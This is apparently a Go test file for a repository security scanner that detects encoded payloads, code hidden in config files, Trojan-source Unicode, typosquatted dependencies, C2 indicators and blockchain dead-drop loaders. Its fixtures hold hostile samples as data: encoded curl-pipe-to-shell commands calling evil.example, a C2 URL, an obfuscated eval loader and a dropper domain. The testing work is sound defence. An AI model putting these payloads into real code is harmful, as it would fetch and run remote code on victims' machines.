package scan_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/bulwark-sec/bulwark/internal/shareddata"
	"github.com/bulwark-sec/bulwark/scan"
)

// want is what a case expects: a finding of rule at severity on line
// (0: any line), whose explanation, snippet or decoded preview contains
// text.
type want struct {
	rule string
	sev  scan.Severity
	line int
	text string
}

type detCase struct {
	name, path, data string
	want             []want
	// maxSev: no finding above it (negative cases; "" means none at all
	// unless want lists some).
	maxSev scan.Severity
}

func runCases(t *testing.T, d scan.Detector, cases []detCase) {
	t.Helper()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			if !d.Applies(tc.path) {
				if len(tc.want) > 0 {
					t.Fatalf("%s does not apply to %s", d.ID(), tc.path)
				}
				return
			}
			got := d.Detect(&scan.File{Path: tc.path, Size: int64(len(tc.data)), Data: []byte(tc.data)})
			for _, w := range tc.want {
				found := false
				for _, g := range got {
					if g.Rule == w.rule && g.Severity == w.sev && (w.line == 0 || g.Line == w.line) &&
						strings.Contains(g.Explanation+" "+g.Snippet+" "+g.Decoded, w.text) {
						found = true
					}
				}
				if !found {
					t.Errorf("want %s %s line %d %q; got %s", w.rule, w.sev, w.line, w.text, dump(got))
				}
			}
			for _, g := range got {
				if g.Explanation == "" || g.Source == "" || g.File != tc.path {
					t.Errorf("finding without explanation, source or path: %+v", g)
				}
				if len(tc.want) == 0 && tc.maxSev == "" {
					t.Errorf("want no finding, got %s", dump(got))
					break
				}
				if tc.maxSev != "" && sevRank(g.Severity) > sevRank(tc.maxSev) {
					t.Errorf("want nothing above %s, got %s", tc.maxSev, dump([]scan.Finding{g}))
				}
			}
		})
	}
}

func dump(fs []scan.Finding) string {
	var b strings.Builder
	for _, f := range fs {
		b.WriteString("\n  " + f.Rule + " " + string(f.Severity) + " " + f.File + ":" + itoa(f.Line) + " " + f.Snippet + " ⇒ " + f.Decoded)
	}
	if b.Len() == 0 {
		return "nothing"
	}
	return b.String()
}

func itoa(n int) string { return itoaFull(n) }

func sevRank(s scan.Severity) int {
	return map[scan.Severity]int{scan.SeverityInfo: 0, scan.SeverityLow: 1, scan.SeverityMedium: 2, scan.SeverityHigh: 3, scan.SeverityCritical: 4}[s]
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

var elfHeader = "\x7fELF\x02\x01\x01\x00" + strings.Repeat("\x00", 8) + "\x02\x00\x3e\x00\x01\x00\x00\x00" + strings.Repeat("\x00\x10", 40)

func TestBlobDetector(t *testing.T) {
	t.Parallel()
	png := "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + strings.Repeat("\x00\x01\x02", 30)
	woff2 := "wOF2\x00\x01\x00\x00" + strings.Repeat("\x07\x00", 40)
	sourcemap := `{"version":3,"sources":["src/app.ts"],"names":[],"mappings":"AAAA,SAAS,GAAG;AACZ,OAAO"}`
	integrity := "sha512-" + base64.StdEncoding.EncodeToString(bytes.Repeat([]byte{0x9a, 0x41, 0xfe}, 22))
	hexCode := hex.EncodeToString([]byte("const cp = require('child_process'); cp.exec('curl -s http://x | sh')"))
	runCases(t, scan.BlobDetector{}, []detCase{
		{name: "base64 C2 URL", path: "routes/api/auth.js",
			data: "const a = 1;\nconst u = atob('aHR0cDovLzIxNi4yNTAuMjUxLjE4NzoxMjI0L2FwaS9jaGVja1N0YXR1cw==');\n",
			want: []want{{"ENCODED-BLOB", scan.SeverityHigh, 2, "http://216.250.251.187:1224/api/checkStatus"}}},
		{name: "base64 code", path: "src/index.js",
			data: "eval(Buffer.from('" + b64("require('child_process').exec('curl http://evil.example/p | sh')") + "','base64').toString())",
			want: []want{{"ENCODED-BLOB", scan.SeverityHigh, 1, "a URL"}}},
		{name: "base64 python", path: "setup.py",
			data: "exec(base64.b64decode('" + b64("import os\nos.system('python3 -c \"print(1)\"')") + "'))\n",
			want: []want{{"ENCODED-BLOB", scan.SeverityHigh, 1, "source code"}}},
		{name: "hex code", path: "lib/g.js", data: "const h = '" + hexCode + "';\n",
			want: []want{{"ENCODED-BLOB", scan.SeverityHigh, 1, "child_process"}}},
		{name: "x escapes URL", path: "lib/x.js",
			data: "\n\nvar s = \"\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x65\\x76\\x69\\x6c\\x2e\\x65\\x78\\x61\\x6d\\x70\\x6c\\x65\\x2f\";",
			want: []want{{"ENCODED-BLOB", scan.SeverityHigh, 3, "https://evil.example/"}}},
		{name: "fromCharCode eval", path: "a.mjs",
			data: "const f = String.fromCharCode(101,118,97,108,40,97,116,111,98,40,112,41,41);",
			want: []want{{"ENCODED-BLOB", scan.SeverityHigh, 1, "eval(atob(p))"}}},
		{name: "char-code array URL", path: "a.ts",
			data: "const k = [104, 116, 116, 112, 58, 47, 47, 49, 48, 46, 49, 46, 50, 46, 51, 58, 49, 50, 50, 52, 47, 97];",
			want: []want{{"ENCODED-BLOB", scan.SeverityHigh, 1, "http://10.1.2.3:1224/a"}}},
		{name: "base64 ELF", path: "src/x.js", data: "const bin = '" + b64(elfHeader) + "';",
			want: []want{{"ENCODED-BLOB", scan.SeverityHigh, 1, "Linux executable (ELF)"}}},
		{name: "base64 text is low", path: "src/c.js", data: "const tid = 'bm93IGl0IHRpbWUgdG8gZ2V0IGV2ZXJ5dGhpbmc=';",
			want: []want{{"ENCODED-BLOB", scan.SeverityLow, 1, "now it time to get everything"}}, maxSev: scan.SeverityLow},
		// A decoded C2 address (IP host, port 1224) is high whatever the
		// file is called; a vendored domain URL stays medium.
		{name: "vendored C2 URL is high", path: "dist/app.min.js",
			data: "var u=atob('aHR0cDovLzIxNi4yNTAuMjUxLjE4NzoxMjI0L2FwaS9jaGVja1N0YXR1cw==');",
			want: []want{{"ENCODED-BLOB", scan.SeverityHigh, 1, "a URL"}}},
		{name: "vendored URL is medium", path: "dist/app.min.js",
			data: "var u=atob('aHR0cHM6Ly9jZG4uZXhhbXBsZS5jb20vYXNzZXRzL2ZvbnRzL2ludGVyLndvZmYy');",
			want: []want{{"ENCODED-BLOB", scan.SeverityMedium, 1, "a URL"}}, maxSev: scan.SeverityMedium},
		{name: "data URI claiming PNG holding code", path: "src/style.js",
			data: "const bg = 'data:image/png;base64," + b64("eval(require('child_process').execSync('id'))") + "';",
			want: []want{{"ENCODED-BLOB", scan.SeverityHigh, 1, "source code"}}},
		// negatives
		{name: "PNG data URI", path: "src/style.js", data: "const bg = `url(data:image/png;base64," + b64(png) + ")`;"},
		{name: "font data URI", path: "src/fonts.js", data: "@font-face{src:url(data:font/woff2;base64," + b64(woff2) + ")}"},
		{name: "inline source map", path: "src/app.js", data: "x();\n//# sourceMappingURL=data:application/json;base64," + b64(sourcemap) + "\n"},
		{name: "integrity hash", path: "scripts/verify.js", data: "const integrity = '" + integrity + "';"},
		{name: "sha256 constant", path: "src/h.go", data: "const sum = \"e58864cc22cd8ec17ae35dd810455d604aadab7c3f145b6c53b3c261855a4bb1\"\n"},
		{name: "base64 alphabet", path: "src/b.js", data: "const A = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';"},
		{name: "number table", path: "src/t.js", data: "const T = [0, 1, 3, 7, 15, 31, 63, 127, 255, 511, 1023, 2047, 4095, 8191, 16383, 32767, 65535, 3, 5, 9, 17];"},
		{name: "lockfile not read", path: "package-lock.json", data: `{"integrity": "` + integrity + `"}`},
	})
}

// TestBlobDetectorJQuery: the system's minified jQuery gives nothing
// high, under its own name and as an unminified-looking source file.
func TestBlobDetectorJQuery(t *testing.T) {
	t.Parallel()
	data, err := os.ReadFile("/usr/share/javascript/jquery/jquery.min.js")
	if err != nil {
		t.Skip("no system jQuery (/usr/share/javascript/jquery/jquery.min.js) to check the minified-bundle negative against; skipping")
	}
	for _, p := range []string{"public/js/jquery.min.js", "src/jquery.js", "tailwind.config.js"} {
		for _, d := range scan.Detectors(scan.DetectOptions{}) {
			if !d.Applies(p) || p == "tailwind.config.js" && d.ID() != "HIDDEN-CODE" {
				continue
			}
			for _, g := range d.Detect(&scan.File{Path: p, Data: data}) {
				if sevRank(g.Severity) >= 3 && !(p == "tailwind.config.js" && g.Rule == "CONFIG-LONG-LINE") {
					t.Errorf("jQuery as %s: %s", p, dump([]scan.Finding{g}))
				}
			}
		}
	}
}

func TestHiddenCodeDetector(t *testing.T) {
	t.Parallel()
	pad := strings.Repeat(" ", 220)
	polin := "global['_V']='8-st';var _$_1e42=(function(l,e){var h=l.length;var g=[];for(var j=0;j< h;j++){g[j]= l.charAt(j)};return eval(g.join(''))})('rmcej%otb%',2857687);"
	normalTailwind := "/** @type {import('tailwindcss').Config} */\nmodule.exports = {\n  content: ['./src/**/*.{js,jsx,ts,tsx}'],\n  theme: {\n    extend: {\n      colors: { brand: '#ff0000' },\n    },\n  },\n  plugins: [require('@tailwindcss/forms')],\n}\n"
	runCases(t, scan.HiddenCodeDetector{}, []detCase{
		{name: "eval after padding", path: "routes/api/auth.js",
			data: "const express = require('express');\nconst router = express.Router();\nrouter.get('/', (q, r) => r.send('ok'));" + pad + ";eval(Buffer.from(p,'base64').toString())\nmodule.exports = router;\n",
			want: []want{{"HIDDEN-AFTER-WHITESPACE", scan.SeverityHigh, 3, "⟨220 blanks⟩;eval("}}},
		{name: "postcss payload appended", path: "postcss.config.mjs",
			data: "const config = {\n  plugins: {\n    tailwindcss: {},\n  },\n};\n\nexport default config;\n" + pad + polin + "\n",
			want: []want{{"CONFIG-APPENDED-CODE", scan.SeverityCritical, 8, "_$_1e42"}, {"HIDDEN-AFTER-WHITESPACE", scan.SeverityHigh, 8, "blanks"}}},
		{name: "next config appended on next line", path: "next.config.js",
			data: "/** @type {import('next').NextConfig} */\nconst nextConfig = { reactStrictMode: true };\nmodule.exports = nextConfig;\n" + polin + "\n",
			want: []want{{"CONFIG-APPENDED-CODE", scan.SeverityCritical, 4, "eval"}}},
		{name: "vite defineConfig then code", path: "vite.config.ts",
			data: "import { defineConfig } from 'vite'\nexport default defineConfig({\n  plugins: [],\n  server: { port: 3000 },\n})\nrequire('child_process').exec(atob('Y3VybA=='))\n",
			want: []want{{"CONFIG-APPENDED-CODE", scan.SeverityCritical, 6, "child_process"}}},
		{name: "long line in config", path: "tailwind.config.js",
			data: normalTailwind + "var a=" + strings.Repeat("_0x1a2b+", 80) + "1;\n",
			want: []want{{"CONFIG-LONG-LINE", scan.SeverityHigh, 11, "characters"}}, maxSev: scan.SeverityCritical},
		{name: "helper after export is medium", path: "tailwind.config.js",
			data: normalTailwind + "\nfunction addVariablesForColors({ addBase, theme }) {\n  addBase({ ':root': {} });\n}\n",
			want: []want{{"CONFIG-APPENDED-CODE", scan.SeverityMedium, 12, "function addVariablesForColors"}}, maxSev: scan.SeverityMedium},
		{name: "padding then comment is low", path: "src/a.js", data: "x();" + pad + "// trailing note\n",
			want: []want{{"HIDDEN-AFTER-WHITESPACE", scan.SeverityLow, 1, "trailing note"}}, maxSev: scan.SeverityLow},
		// negatives
		{name: "normal tailwind config", path: "tailwind.config.js", data: normalTailwind},
		{name: "normal eslint flat config", path: "eslint.config.mjs",
			data: "import js from '@eslint/js';\nconst re = /}\\s*$/;\nexport default [\n  js.configs.recommended,\n  { rules: { 'no-unused-vars': 'warn', quotes: ['error', \"single\"] } },\n];\n"},
		{name: "babel config with function", path: "babel.config.js",
			data: "module.exports = function (api) {\n  api.cache(true);\n  return { presets: ['@babel/preset-env'] };\n};\n"},
		{name: "jest config chained", path: "jest.config.ts",
			data: "import type { Config } from 'jest';\nconst config: Config = { testEnvironment: 'node' };\nexport default config;\n// end\n"},
		{name: "indentation under threshold", path: "src/b.js", data: strings.Repeat(" ", 100) + "x();\n"},
	})
}

func TestUnicodeDetector(t *testing.T) {
	t.Parallel()
	runCases(t, scan.UnicodeDetector{}, []detCase{
		{name: "trojan source", path: "src/auth.js",
			data: "var isAdmin = false;\n/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */\nconsole.log('admin');\n",
			want: []want{{"UNICODE-BIDI", scan.SeverityHigh, 2, "U+202E RIGHT-TO-LEFT OVERRIDE"}, {"UNICODE-BIDI", scan.SeverityHigh, 2, "U+2066 LEFT-TO-RIGHT ISOLATE"}}},
		{name: "zero width space in identifier", path: "src/a.ts", data: "const a\u200bb = 1;\n",
			want: []want{{"UNICODE-INVISIBLE", scan.SeverityMedium, 1, "U+200B ZERO WIDTH SPACE"}}},
		{name: "hangul filler identifier", path: "server.js",
			data: "app.get('/', (req) => {\n  const { timeout, \u3164 } = req.query;\n  exec(['ping', \u3164].join(' '));\n});\n",
			want: []want{{"UNICODE-INVISIBLE", scan.SeverityHigh, 2, "U+3164 HANGUL FILLER"}, {"UNICODE-INVISIBLE", scan.SeverityHigh, 3, "U+3164"}}},
		{name: "bom past start", path: "a.py", data: "x = 1\ny = \ufeff2\n",
			want: []want{{"UNICODE-INVISIBLE", scan.SeverityMedium, 2, "U+FEFF"}}},
		{name: "variation selector payload", path: "extension.js",
			data: "const s = '|" + strings.Repeat("\ufe01\U000e0110\U000e0142", 10) + "';\neval(decode(s));\n",
			want: []want{{"UNICODE-INVISIBLE", scan.SeverityHigh, 1, "variation selectors"}}},
		{name: "bidi in JSON is low", path: "locales/ar.json", data: "{\"x\": \"\u202bمرحبا\u202c\"}",
			want: []want{{"UNICODE-BIDI", scan.SeverityLow, 1, "U+202B"}}, maxSev: scan.SeverityLow},
		{name: "vendored is medium", path: "node_modules/x/index.js", data: "/*\u202e*/",
			want: []want{{"UNICODE-BIDI", scan.SeverityMedium, 1, "U+202E"}}, maxSev: scan.SeverityMedium},
		{name: "zero width space in a comment is low", path: "src/d.ts", data: "/**\n * The idea of\u200b this function\n */\n",
			want: []want{{"UNICODE-INVISIBLE", scan.SeverityLow, 2, "U+200B"}}, maxSev: scan.SeverityLow},
		{name: "whitespace list is low", path: "src/trim.js", data: "var ws = '\\t\\n\u00a0\u1680\u180e\u2000\u2001\u2028\u2029\ufeff';\n",
			want: []want{{"UNICODE-INVISIBLE", scan.SeverityLow, 1, "U+180E"}}, maxSev: scan.SeverityLow},
		// negatives
		{name: "hebrew i18n", path: "locales/he.json", data: "{\n  \"greeting\": \"שלום עולם\",\n  \"bye\": \"להתראות\"\n}\n"},
		{name: "emoji zwj sequence", path: "src/emoji.js", data: "const family = '👨\u200d👩\u200d👧\u200d👦';\nconst flag = '🏳️\u200d🌈';\n"},
		{name: "bom at start", path: "src/a.js", data: "\ufeffconsole.log(1);\n"},
		{name: "persian zwnj", path: "src/fa.js", data: "const t = 'می\u200cخواهم';\n"},
		{name: "emoji variation selector", path: "src/e.js", data: "const ok = '✔\ufe0f';\n"},
		{name: "korean text", path: "src/ko.js", data: "const s = '안녕하세요';\n"},
		{name: "markdown not read", path: "README.md", data: "\u202e"},
	})
}

func TestDependencyDetector(t *testing.T) {
	t.Parallel()
	d := scan.NewDependencyDetector(scan.BuiltinIOCs())
	runCases(t, d, []detCase{
		{name: "known malicious and typosquats", path: "package.json",
			data: `{
  "name": "chainflip-task",
  "dependencies": {
    "react-plaid-sdk": "^1.0.2",
    "lodahs": "^4.17.21",
    "expresss": "^4.18.0",
    "react-d0m": "18.2.0"
  },
  "devDependencies": {
    "@babell/core": "^7.0.0",
    "lodash-ext": "1.0.0"
  },
  "optionalDependencies": {
    "helper": "github:someone/helper#main",
    "payload": "http://45.43.11.199/p.tgz"
  }
}`,
			want: []want{
				{"KNOWN-MALICIOUS-DEPENDENCY", scan.SeverityCritical, 4, "react-plaid-sdk"},
				{"TYPOSQUAT-DEPENDENCY", scan.SeverityHigh, 5, "lodash (two adjacent characters swapped)"},
				{"TYPOSQUAT-DEPENDENCY", scan.SeverityHigh, 6, "express (one character"},
				{"TYPOSQUAT-DEPENDENCY", scan.SeverityHigh, 7, "react-dom (characters that look alike"},
				{"TYPOSQUAT-DEPENDENCY", scan.SeverityHigh, 10, "@babel/core (a lookalike npm scope)"},
				{"TYPOSQUAT-DEPENDENCY", scan.SeverityMedium, 11, "lodash (the popular name with a suffix"},
				{"DEP-URL-SOURCE", scan.SeverityMedium, 14, "a git repository"},
				{"DEP-RAW-IP-SOURCE", scan.SeverityHigh, 15, "raw IP"},
			}},
		{name: "lockfile v3", path: "package-lock.json", data: readTestdata(t, "package-lock-v3.json"),
			want: []want{{"KNOWN-MALICIOUS-DEPENDENCY", scan.SeverityCritical, 0, "plain-crypto-js"}}},
		{name: "lockfile v1", path: "package-lock.json", data: readTestdata(t, "package-lock-v1.json"),
			want: []want{{"KNOWN-MALICIOUS-DEPENDENCY", scan.SeverityCritical, 0, "tailwind-mainanimation"}}},
		{name: "yarn v1", path: "yarn.lock", data: readTestdata(t, "yarn-v1.lock"),
			want: []want{{"KNOWN-MALICIOUS-DEPENDENCY", scan.SeverityCritical, 9, "vite-plugin-next-refresh"}, {"DEP-URL-SOURCE", scan.SeverityMedium, 14, "a git repository"}}},
		{name: "yarn berry", path: "yarn.lock", data: readTestdata(t, "yarn-berry.lock"),
			want: []want{{"KNOWN-MALICIOUS-DEPENDENCY", scan.SeverityCritical, 0, "sumsub-node-websdk"}}},
		{name: "pnpm v9", path: "pnpm-lock.yaml", data: readTestdata(t, "pnpm-lock-v9.yaml"),
			want: []want{{"KNOWN-MALICIOUS-DEPENDENCY", scan.SeverityCritical, 0, "jsonsecs"}, {"DEP-RAW-IP-SOURCE", scan.SeverityHigh, 0, "raw IP"}}},
		{name: "requirements", path: "requirements.txt",
			data: "# lure\nrequests==2.31.0\nreqeusts==2.0.0\n-e git+https://github.com/x/tool.git#egg=tool\nnumpy>=1.26 ; python_version > '3.9'\n",
			want: []want{{"TYPOSQUAT-DEPENDENCY", scan.SeverityHigh, 3, "requests"}, {"DEP-URL-SOURCE", scan.SeverityMedium, 4, "git"}}},
		{name: "pyproject pep621 and poetry", path: "pyproject.toml", data: readTestdata(t, "pyproject.toml"),
			want: []want{{"TYPOSQUAT-DEPENDENCY", scan.SeverityHigh, 0, "numpy"}, {"TYPOSQUAT-DEPENDENCY", scan.SeverityHigh, 0, "django"}, {"DEP-URL-SOURCE", scan.SeverityMedium, 0, "git"}}},
		// negatives
		{name: "clean manifest", path: "package.json",
			data: `{"dependencies": {"express": "^4.18.2", "react": "18.2.0", "preact": "10.0.0", "safer-buffer": "2.1.2", "colors": "1.4.0", "color": "4.0.0", "@types/node": "20.0.0", "@babel/core": "7.0.0", "local": "file:../local", "alias": "npm:lodash@4"}}`},
		{name: "clean requirements", path: "requirements.txt", data: "requests\nDjango==5.0\npython_dateutil>=2.8\nscikit-learn\n--index-url https://pypi.org/simple\n"},
		{name: "registry resolved", path: "package-lock.json",
			data: `{"lockfileVersion": 3, "packages": {"": {"name": "x"}, "node_modules/lodash": {"version": "4.17.21", "resolved": "https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz", "integrity": "sha512-v2kDEe57lecTulaDIuNTPy3Ry4gLGJ6Z1O3vE1krgXZNrsQ+LFTGHVxVjcXPs17LhbZVGedAJv8XZ1tvj5FvSg=="}}}`},
	})
}

func readTestdata(t *testing.T, name string) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", "detect", name))
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func TestParseDependencies(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		path, file string
		want       []string // name@line
	}{
		{"package-lock.json", "package-lock-v3.json", []string{"axios@6", "plain-crypto-js@12", "follow-redirects@17"}},
		{"package-lock.json", "package-lock-v1.json", []string{"tailwindcss@5", "tailwind-mainanimation@9", "lodash@14"}},
		{"yarn.lock", "yarn-v1.lock", []string{"@babel/code-frame@4", "vite-plugin-next-refresh@9", "ghost@14"}},
		{"yarn.lock", "yarn-berry.lock", []string{"lodash@8", "sumsub-node-websdk@15"}},
		{"pnpm-lock.yaml", "pnpm-lock-v9.yaml", []string{"@babel/core@17", "jsonsecs@20", "react-dom@23", "evil@26"}},
		{"pnpm-lock.yaml", "pnpm-lock-v6.yaml", []string{"lodash@10", "@types/node@13", "util-buffers@16"}},
		{"pyproject.toml", "pyproject.toml", []string{"requests@4", "nunpy@5", "pytest@9", "djngo@13", "private-lib@14"}},
	} {
		deps := scan.ParseDependencies(tc.path, []byte(readTestdata(t, tc.file)))
		got := map[string]bool{}
		for _, d := range deps {
			got[d.Name+"@"+itoaFull(d.Line)] = true
		}
		for _, w := range tc.want {
			if !got[w] {
				t.Errorf("%s: want %s among %v", tc.file, w, got)
			}
		}
	}
}

func itoaFull(n int) string {
	if n == 0 {
		return "0"
	}
	s := ""
	for ; n > 0; n /= 10 {
		s = string(rune('0'+n%10)) + s
	}
	return s
}

func TestIOCDetector(t *testing.T) {
	t.Parallel()
	csvPath := shareddata.Path(t, "hire", "iocs", "contagious_interview_iocs.csv")
	fh, err := os.Open(csvPath)
	if err != nil {
		t.Fatal(err)
	}
	defer fh.Close()
	iocs, err := scan.LoadIOCs(fh, csvPath)
	if err != nil {
		t.Fatal(err)
	}
	planted := []byte("console.log('p.js stage');\n")
	sum := sha256.Sum256(planted)
	extra, err := scan.LoadIOCs(strings.NewReader("type,value,port,context,family_or_campaign,confidence,source_id,source_ref\nsha256,"+hex.EncodeToString(sum[:])+",,test payload,Test,high,T,test\n"), "extra.csv")
	if err != nil {
		t.Fatal(err)
	}
	d := scan.NewIOCDetector(iocs, 1<<20)
	runCases(t, d, []detCase{
		{name: "ChainFlip C2", path: "routes/api/auth.js",
			data: "const a = 1;\nconst c2 = 'http://216.250.251.187:1224/api/checkStatus';\n",
			want: []want{{"KNOWN-IOC", scan.SeverityHigh, 2, "216.250.251.187"}, {"C2-PORT", scan.SeverityHigh, 2, "port 1224"}}},
		{name: "axios dropper domain", path: "setup.js", data: "fetch('https://sfrclak.com/6202033')",
			want: []want{{"KNOWN-IOC", scan.SeverityCritical, 1, "UNC1069"}}},
		{name: "C2 port on a domain", path: "src/net.py", data: "\nURL = 'http://api.example-cdn.com:8637/keys'\n",
			want: []want{{"C2-PORT", scan.SeverityHigh, 2, "port 8637"}}},
		{name: "host:port without scheme", path: "src/c.js", data: "const host = '10.20.30.40:2245';",
			want: []want{{"C2-PORT", scan.SeverityHigh, 1, "10.20.30.40"}}},
		{name: "tron dead drop", path: "lib/boot.js",
			data: "const r = await fetch('https://api.trongrid.io/v1/accounts/TXyz/transactions?only_confirmed=true&limit=1');\nconst data = (await r.json()).data[0].raw_data.data;\n",
			want: []want{{"BLOCKCHAIN-DEAD-DROP-FETCH", scan.SeverityHigh, 1, "TRON"}}},
		{name: "aptos dead drop", path: "lib/boot2.js",
			data: "const u = 'https://fullnode.mainnet.aptoslabs.com/v1/accounts/0xbe/transactions?limit=1';\neval(atob(tx.payload.arguments[0]));",
			want: []want{{"BLOCKCHAIN-DEAD-DROP-FETCH", scan.SeverityHigh, 1, "Aptos"}}},
		{name: "bsc dead drop", path: "lib/boot3.js",
			data: "post('https://bsc-dataseed.binance.org/', {method: 'eth_getTransactionByHash', params: [h]}).then(r => r.data.result.input)",
			want: []want{{"BLOCKCHAIN-DEAD-DROP-FETCH", scan.SeverityHigh, 1, "BNB"}}},
		// negatives
		{name: "plain numbers", path: "src/n.js", data: "const port = 1224; const x = {a:1224}; const t = '12:1224'; y = ver[2245];"},
		{name: "localhost", path: "src/dev.js", data: "const u = 'http://localhost:1224/';"},
		{name: "longer port", path: "src/p.js", data: "const u = 'http://example.com:12245/';"},
		{name: "ip inside longer ip", path: "src/i.js", data: "ping 145.43.11.1999 and 216.250.251.1870"},
		{name: "trongrid alone", path: "src/t.js", data: "// docs: api.trongrid.io is TRON's public node", maxSev: scan.SeverityLow},
		{name: "bsc balance read", path: "scripts/read.js", data: "const r = await axios.post('https://bsc-dataseed.binance.org/', { method: 'eth_call', params: [{ to: usdt, data: '0x70a08231' + addr }, 'latest'] });\nconsole.log(BigInt(r.data.result));\n"},
		{name: "tron account balance", path: "src/w.js", data: "const r = await fetch('https://api.trongrid.io/v1/accounts/' + a + '/transactions');\nshow((await r.json()).data.length);\n", maxSev: scan.SeverityLow},
		{name: "ethers rpc without bsc", path: "node_modules/ethers/x.js", data: "send('eth_getTransactionByHash', [hash])"},
	})
	hd := scan.NewIOCDetector(extra, 1<<20)
	got := hd.Detect(&scan.File{Path: "p.js", Data: planted})
	if len(got) != 1 || got[0].Rule != "KNOWN-IOC" || got[0].Severity != scan.SeverityCritical || !strings.Contains(got[0].Snippet, hex.EncodeToString(sum[:])) {
		t.Errorf("hash match: %s", dump(got))
	}
	if got := scan.NewIOCDetector(extra, 4).Detect(&scan.File{Path: "p.js", Data: planted}); len(got) != 0 {
		t.Errorf("a file over the hash bound is not hashed: %s", dump(got))
	}
	if _, ok := iocs.Package("react-plaid-sdk"); !ok {
		t.Error("CSV packages are loaded")
	}
}

func TestLoadIOCsErrors(t *testing.T) {
	t.Parallel()
	for _, in := range []string{"", "value,type\n\"unterminated\n", "foo,bar\n1,2\n"} {
		if _, err := scan.LoadIOCs(strings.NewReader(in), "bad.csv"); err == nil || !strings.Contains(err.Error(), "bad.csv") {
			t.Errorf("LoadIOCs(%q) = %v, want an error naming the file", in, err)
		}
	}
}

func TestBinaryDetector(t *testing.T) {
	t.Parallel()
	pe := make([]byte, 256)
	copy(pe, "MZ")
	pe[60] = 128
	copy(pe[128:], "PE\x00\x00")
	macho := "\xcf\xfa\xed\xfe\x07\x00\x00\x01" + strings.Repeat("\x00", 24)
	class := "\xca\xfe\xba\xbe\x00\x00\x00\x34" + strings.Repeat("\x00", 16)
	pyc := "\x55\x0d\x0d\x0a" + strings.Repeat("\x00", 16)
	jar := "PK\x03\x04" + strings.Repeat("\x00", 26) + "META-INF/MANIFEST.MF"
	sumELF := sha256.Sum256([]byte(elfHeader))
	runCases(t, scan.BinaryDetector{}, []detCase{
		{name: "ELF", path: "bin/helper", data: elfHeader, want: []want{{"COMMITTED-BINARY", scan.SeverityMedium, 0, hex.EncodeToString(sumELF[:])}}},
		{name: "PE named as text", path: "docs/readme.txt", data: string(pe), want: []want{{"COMMITTED-BINARY", scan.SeverityMedium, 0, "Windows executable (PE)"}}},
		{name: "Mach-O", path: "tools/x", data: macho, want: []want{{"COMMITTED-BINARY", scan.SeverityMedium, 0, "Mach-O"}}},
		{name: "node addon", path: "build/Release/keys.node", data: elfHeader, want: []want{{"COMMITTED-BINARY", scan.SeverityMedium, 0, "native Node.js addon"}}},
		{name: "java class", path: "A.class", data: class, want: []want{{"COMMITTED-BINARY", scan.SeverityLow, 0, "Java class"}}},
		{name: "jar", path: "lib/x.jar", data: jar, want: []want{{"COMMITTED-BINARY", scan.SeverityLow, 0, "Java archive"}}},
		{name: "pyc", path: "__pycache__/a.cpython-312.pyc", data: pyc, want: []want{{"COMMITTED-BINARY", scan.SeverityLow, 0, "Python bytecode"}}},
		// negatives
		{name: "text starting MZ", path: "notes.txt", data: "MZ is the DOS signature; this is prose, not a program." + strings.Repeat(" ", 80)},
		{name: "PNG", path: "logo.png", data: "\x89PNG\r\n\x1a\n" + strings.Repeat("\x00", 32)},
		{name: "zip that is not a jar", path: "a.zip", data: "PK\x03\x04" + strings.Repeat("\x00", 40)},
	})
}

// TestDetectorsFindingsAreSafe: snippets and previews never carry raw
// control or bidirectional characters.
func TestDetectorsFindingsAreSafe(t *testing.T) {
	t.Parallel()
	data := "x();" + strings.Repeat(" ", 200) + "eval('\x1b[2J\u202e')\n/*\u202e*/ const s='" + b64("require('child_process')\x1b[31m\u202e") + "';\n"
	for _, d := range scan.Detectors(scan.DetectOptions{}) {
		for _, g := range d.Detect(&scan.File{Path: "src/a.js", Data: []byte(data)}) {
			for _, s := range []string{g.Snippet, g.Decoded, g.Explanation} {
				if strings.ContainsAny(s, "\x1b\u202e\u2066") {
					t.Errorf("%s: unsafe text %q", g.Rule, s)
				}
			}
		}
	}
}

// TestDependencyChecks: each check can be routed to its own rule.
func TestDependencyChecks(t *testing.T) {
	t.Parallel()
	data := []byte(`{"dependencies": {"react-plaid-sdk": "1", "lodahs": "1", "x": "github:a/b"}}`)
	for _, tc := range []struct {
		c    scan.DependencyChecks
		want string
	}{
		{scan.DependencyChecks{Known: true}, "KNOWN-MALICIOUS-DEPENDENCY"},
		{scan.DependencyChecks{Typosquat: true}, "TYPOSQUAT-DEPENDENCY"},
		{scan.DependencyChecks{Sources: true}, "DEP-URL-SOURCE"},
	} {
		got := scan.NewDependencyDetectorWith(nil, tc.c).Detect(&scan.File{Path: "package.json", Data: data})
		if len(got) != 1 || got[0].Rule != tc.want {
			t.Errorf("%+v: %s", tc.c, dump(got))
		}
	}
}
